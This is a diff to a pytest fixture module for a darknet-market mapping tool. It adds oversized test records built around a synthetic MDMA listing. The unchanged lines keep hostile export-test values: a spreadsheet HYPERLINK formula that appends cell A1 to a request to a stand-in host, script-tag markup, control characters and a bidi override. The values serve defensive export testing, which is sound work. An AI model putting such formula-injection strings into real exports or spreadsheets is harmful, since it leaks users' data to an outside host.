@@ -4,7 +4,9 @@
 seller table), linked and assessed. ``demo``: the demo pipeline on a small simulated world
 (every stage: simulate, ingest, link, assess, money, evaluate). ``hostile``: a handful of
 records whose text is built to break exports (XML specials and controls, spreadsheet
-formulas, bidi overrides, handles no FtM id may hold).
+formulas, bidi overrides, handles no FtM id may hold). ``long``: values longer than FtM's
+short types hold (a 10,000-character listing title, a 1,500-character handle) and a
+listing description longer than an FtM text, not linked.
 """
 
 from __future__ import annotations
@@ -20,11 +22,15 @@ from darkmap.pipeline import DemoContext, run_stages
 from darkmap.store.workspace import Workspace
 from darkmap.store.writer import Provenance, RecordWriter
 
-__all__ = ["HOSTILE_HANDLE", "HOSTILE_TITLE", "built", "open_ro"]
+__all__ = ["HOSTILE_HANDLE", "HOSTILE_TITLE", "LONG_DESCRIPTION", "LONG_HANDLE", "LONG_TITLE",
+           "built", "open_ro"]
 
 _BUILT: dict[str, Path] = {}
 HOSTILE_HANDLE = "Ev\u202eil</node>&amp;\"'\x07_\U0001F48A"
 HOSTILE_TITLE = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\") <b>&lt;script&gt;\x00\x1b[2J"
+LONG_TITLE = "10g MDMA " + "very pure crystal, " * 526 + "from NL"  # 10,010 characters
+LONG_HANDLE = "vendor_" + "x" * 1493  # 1,500 characters
+LONG_DESCRIPTION = "stealth shipping. " * 4000 + "PGP only"  # 72,008 characters
 
 
 def _real(path: Path, data: Path) -> None:
@@ -75,12 +81,29 @@ def _hostile(path: Path) -> None:
         darkmap.assess_listings(ws)
 
 
+def _long(path: Path) -> None:
+    t0 = datetime(2020, 1, 2, 3, 4, 5)
+    with darkmap.init_workspace(path) as ws:
+        raw = f"{LONG_HANDLE}\n{LONG_TITLE}\n{LONG_DESCRIPTION}".encode()
+        sha = ws.captures.put_bytes(raw)
+        ws.con.execute("INSERT INTO captures VALUES (?, ?, ?, 'text/plain', ?)",
+                       [sha, len(raw), "long-fixture.txt", t0])
+        w = RecordWriter(ws.con)
+        prov = Provenance(sha, "long-fixture.txt", "test@1", t0)
+        w.add(AccountRecord(market_id="alpha", handle=LONG_HANDLE, observed_at=t0,
+                            locator="profile"), prov)
+        w.add(ListingRecord(market_id="alpha", listing_ref="ref-long", vendor_handle=LONG_HANDLE,
+                            title=LONG_TITLE, description=LONG_DESCRIPTION, price=10.0,
+                            currency="USD", observed_at=t0, locator="listing"), prov)
+        w.flush()
+
+
 def built(name: str, factory: pytest.TempPathFactory, data: Path) -> Path:
-    """The folder of workspace ``name`` (real, demo, hostile), built on first use."""
+    """The folder of workspace ``name`` (real, demo, hostile, long), built on first use."""
     if name not in _BUILT:
         path = factory.mktemp(f"export-{name}") / "ws"
         {"real": lambda: _real(path, data), "demo": lambda: _demo(path),
-         "hostile": lambda: _hostile(path)}[name]()
+         "hostile": lambda: _hostile(path), "long": lambda: _long(path)}[name]()
         _BUILT[name] = path
     return _BUILT[name]
 
